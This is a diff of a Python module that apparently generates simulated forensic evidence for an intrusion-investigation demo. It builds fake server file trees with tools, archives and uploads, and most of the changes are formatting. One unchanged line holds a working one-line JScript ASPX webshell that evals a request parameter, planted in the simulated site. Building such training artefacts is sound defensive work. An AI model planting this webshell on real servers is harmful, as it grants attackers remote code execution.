@@ -27,9 +27,10 @@ from datetime import datetime, timedelta
 from functools import cache
 from pathlib import Path
 
-from seawall.demo.evidence import EvidenceFile, Manifest, write_bytes, write_text
+from seawall.demo.clock import BASE, at
+from seawall.demo.evidence import EvidenceFile, Manifest, write_bytes
 from seawall.demo.pe import VersionInfo, build_pe
-from seawall.demo.scenario import APP_POOL, BASE, DNS_DOMAIN, ORG, Scenario, at
+from seawall.demo.scenario import APP_POOL, DNS_DOMAIN, ORG, Scenario
 
 WEBSHELL_PATH = "inetpub/wwwroot/aspnet_client/system_web/errorFE.aspx"
 WEBSHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["z1"],"unsafe");%>\r\n'
@@ -47,9 +48,14 @@ _FILE_VERSION = "10.0.17763.1 (WinBuild.160101.0800)"
 
 def _windows_tool(original: str, description: str, size: int) -> tuple[VersionInfo, int]:
     info = VersionInfo(
-        original, description, _MS, _WINDOWS, _BUILD, file_version=_FILE_VERSION,
+        original,
+        description,
+        _MS,
+        _WINDOWS,
+        _BUILD,
+        file_version=_FILE_VERSION,
         copyright="© Microsoft Corporation. All rights reserved.",
-    )  # fmt: skip
+    )
     return info, size
 
 
@@ -118,27 +124,48 @@ PUTTY_INFO = VersionInfo(
     copyright="Copyright © 1997-2025 Simon Tatham.",
 )
 PLINK_INFO = VersionInfo(
-    "Plink", "Command-line SSH, Telnet, and Rlogin client", "Simon Tatham", "PuTTY suite",
-    (0, 83, 0, 0), file_version="Release 0.83", internal_name="Plink",
+    "Plink",
+    "Command-line SSH, Telnet, and Rlogin client",
+    "Simon Tatham",
+    "PuTTY suite",
+    (0, 83, 0, 0),
+    file_version="Release 0.83",
+    internal_name="Plink",
     copyright="Copyright © 1997-2025 Simon Tatham.",
-)  # fmt: skip
+)
 PSCP_INFO = VersionInfo(
-    "PSCP", "Command-line SCP/SFTP client", "Simon Tatham", "PuTTY suite", (0, 83, 0, 0),
-    file_version="Release 0.83", internal_name="PSCP",
+    "PSCP",
+    "Command-line SCP/SFTP client",
+    "Simon Tatham",
+    "PuTTY suite",
+    (0, 83, 0, 0),
+    file_version="Release 0.83",
+    internal_name="PSCP",
     copyright="Copyright © 1997-2025 Simon Tatham.",
-)  # fmt: skip
+)
 RAR_INFO = VersionInfo(
-    "Rar.exe", "Command line RAR", "Alexander Roshal", "WinRAR", (6, 24, 0, 0),
+    "Rar.exe",
+    "Command line RAR",
+    "Alexander Roshal",
+    "WinRAR",
+    (6, 24, 0, 0),
     copyright="Copyright © Alexander Roshal 1993-2023",
-)  # fmt: skip
+)
 WINRAR_INFO = VersionInfo(
-    "WinRAR.exe", "WinRAR archiver", "Alexander Roshal", "WinRAR", (6, 24, 0, 0),
+    "WinRAR.exe",
+    "WinRAR archiver",
+    "Alexander Roshal",
+    "WinRAR",
+    (6, 24, 0, 0),
     copyright="Copyright © Alexander Roshal 1993-2023",
-)  # fmt: skip
+)
 VAULT_INFO = VersionInfo(
-    "dvault.exe", "DrawingVault client", "Harbourline Software Pty Ltd", "DrawingVault",
+    "dvault.exe",
+    "DrawingVault client",
+    "Harbourline Software Pty Ltd",
+    "DrawingVault",
     (4, 2, 1, 310),
-)  # fmt: skip
+)
 WEBAPP_INFO = VersionInfo(
     "Tidewater.Web.dll", "Tidewater public web site", ORG, "Tidewater.Web", (2, 3, 0, 0)
 )
@@ -192,12 +219,56 @@ def putty_build(seed: int, shared_data: Path | None) -> PuttyBuild:
 
 # -- text and placeholder content ---------------------------------------------------------------
 
-_WORDS = (
-    "hull keel frame stiffener bulkhead ballast draught beam stability survey weld plate"
-    " class approval revision drawing load case fatigue vessel tug ferry barge deck crane"
-    " mooring propeller shaft rudder hatch coating corrosion inspection tender schedule budget"
-    " review minutes client yard launch trial report quote invoice design model analysis"
-).split()
+_WORDS = [
+    "hull",
+    "keel",
+    "frame",
+    "stiffener",
+    "bulkhead",
+    "ballast",
+    "draught",
+    "beam",
+    "stability",
+    "survey",
+    "weld",
+    "plate",
+    "class",
+    "approval",
+    "revision",
+    "drawing",
+    "load",
+    "case",
+    "fatigue",
+    "vessel",
+    "tug",
+    "ferry",
+    "barge",
+    "deck",
+    "crane",
+    "mooring",
+    "propeller",
+    "shaft",
+    "rudder",
+    "hatch",
+    "coating",
+    "corrosion",
+    "inspection",
+    "tender",
+    "schedule",
+    "budget",
+    "review",
+    "minutes",
+    "client",
+    "yard",
+    "launch",
+    "trial",
+    "report",
+    "quote",
+    "invoice",
+    "design",
+    "model",
+    "analysis",
+]
 _PROJECTS = ("Hull-Design", "Ferry-Refit", "Tug-Series-7", "Barge-2024", "Survey-Reports")
 
 
@@ -303,16 +374,17 @@ def _windows_base(tree: _Tree, host: str, iis: bool) -> None:
         + "\n",
         at(6, 19),
     )
-    tree.text("Users/Public/desktop.ini", "[.ShellClassInfo]\nLocalizedResourceName=@%SystemRoot%"
-              "\\system32\\shell32.dll,-21816\n", installed)  # fmt: skip
+    tree.text(
+        "Users/Public/desktop.ini",
+        "[.ShellClassInfo]\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21816\n",
+        installed,
+    )
     tree.text(
         "Users/Public/Documents/desktop.ini",
         "[.ShellClassInfo]\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\n",
         installed,
     )
-    tree.tool(
-        "Program Files/Keelson Backup/bkagent.exe", AGENT_INFO, 120_000, BASE - timedelta(90)
-    )
+    tree.tool("Program Files/Keelson Backup/bkagent.exe", AGENT_INFO, 120_000, BASE - timedelta(90))
     tree.text(
         "ProgramData/Keelson Backup/agent.conf",
         f"[agent]\nserver = bkp01.{DNS_DOMAIN}\nport = 10443\nschedule = 02:00\nhost = {host}\n",
@@ -342,8 +414,11 @@ def _website(tree: _Tree, rng: random.Random, scale_files: int) -> None:
     }
     for name, title in pages.items():
         body = _paragraphs(rng, 2).replace("\r\n\r\n", "</p>\n    <p>")
-        tree.text(f"inetpub/wwwroot/{name}.aspx", _ASPX_PAGE.format(title=title, name=name,
-                  body=body), deployed)  # fmt: skip
+        tree.text(
+            f"inetpub/wwwroot/{name}.aspx",
+            _ASPX_PAGE.format(title=title, name=name, body=body),
+            deployed,
+        )
     tree.text(
         "inetpub/wwwroot/Site.Master",
         '<%@ Master Language="C#" AutoEventWireup="true" CodeBehind="Site.master.cs"'
@@ -376,9 +451,12 @@ def _website(tree: _Tree, rng: random.Random, scale_files: int) -> None:
         generated_pe(tree.seed, "tidewater.web.dll", WEBAPP_INFO, 90_000, False),
         deployed,
     )
-    tree.text("inetpub/wwwroot/css/site.css", "body { font-family: Segoe UI, sans-serif;"
-              " margin: 0; }\nh2 { color: #0b3954; }\n.footer { font-size: 0.8em; }\n",
-              deployed)  # fmt: skip
+    tree.text(
+        "inetpub/wwwroot/css/site.css",
+        "body { font-family: Segoe UI, sans-serif;"
+        " margin: 0; }\nh2 { color: #0b3954; }\n.footer { font-size: 0.8em; }\n",
+        deployed,
+    )
     tree.text(
         "inetpub/wwwroot/js/site.js",
         "document.addEventListener('DOMContentLoaded', function () {\n"
@@ -387,14 +465,20 @@ def _website(tree: _Tree, rng: random.Random, scale_files: int) -> None:
         deployed,
     )
     for index in range(8):
-        tree.put(f"inetpub/wwwroot/images/project-{index + 1}.png",
-                 _png(rng, rng.randint(3_000, 20_000)), deployed)  # fmt: skip
+        tree.put(
+            f"inetpub/wwwroot/images/project-{index + 1}.png",
+            _png(rng, rng.randint(3_000, 20_000)),
+            deployed,
+        )
     tree.text("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.keep", "", deployed)
     # Applicants' uploads through the careers form (the form the actor abused).
     for index in range(max(6, scale_files // 10)):
         when = at(rng.randrange(0, 14), rng.randint(0, 12), rng.randint(0, 59))
-        tree.put(f"inetpub/wwwroot/uploads/cv-{index + 1:04d}.pdf",
-                 _pdf(rng, rng.randint(3_000, 15_000)), when)  # fmt: skip
+        tree.put(
+            f"inetpub/wwwroot/uploads/cv-{index + 1:04d}.pdf",
+            _pdf(rng, rng.randint(3_000, 15_000)),
+            when,
+        )
 
 
 def _profiles(tree: _Tree, rng: random.Random, users: list[str], count: int) -> None:
@@ -425,9 +509,7 @@ def _web01(tree: _Tree, scenario: Scenario, putty: PuttyBuild, manifest: Manifes
     manifest.note("putty-public", public, windows_path="C:\\Users\\Public\\putty.exe")
     rar = generated_pe(scenario.seed, "rar.exe", RAR_INFO, 300_000, False)
     renamed = tree.put(RENAMED_RAR_PATH, rar, times["tools_upload"] + timedelta(seconds=41))
-    manifest.note(
-        "renamed-rar", renamed, windows_path="C:\\" + RENAMED_RAR_PATH.replace("/", "\\")
-    )
+    manifest.note("renamed-rar", renamed, windows_path="C:\\" + RENAMED_RAR_PATH.replace("/", "\\"))
     leftover = b"Rar!\x1a\x07\x01\x00" + scenario.rng("files:leftover").randbytes(262_136)
     tree.put(STAGING_LEFTOVER, leftover, times["archive"] + timedelta(minutes=47))
     # The actor's Remote Desktop session created d.tan's profile on the web server.
@@ -467,8 +549,7 @@ def _adm01(tree: _Tree, scenario: Scenario, putty: PuttyBuild) -> None:
         generated_pe(scenario.seed, "winrar.exe", WINRAR_INFO, 900_000, True),
         installed,
     )
-    tree.tool("Program Files/Harbourline/DrawingVault/dvault.exe", VAULT_INFO, 250_000,
-              installed)  # fmt: skip
+    tree.tool("Program Files/Harbourline/DrawingVault/dvault.exe", VAULT_INFO, 250_000, installed)
     tree.text(
         "Users/adm-kpatel/Documents/scripts/check-servers.ps1",
         "# Morning checks of the server room\n$servers = 'dc01','fs01','web01'\n"
@@ -501,13 +582,20 @@ def write_trees(
                 plane="files",
                 format="tree",
                 command=[
-                    "collect", "files", relative, "--host", host, "--os", "windows",
-                    "--root-map", f"{relative}=C:\\",
+                    "collect",
+                    "files",
+                    relative,
+                    "--host",
+                    host,
+                    "--os",
+                    "windows",
+                    "--root-map",
+                    f"{relative}=C:\\",
                 ],
                 needs="collect files",
                 host=host,
                 records=tree.count,
                 description=f"{host}'s C: drive as a mounted image shows it",
             )
-        )  # fmt: skip
+        )
     return putty
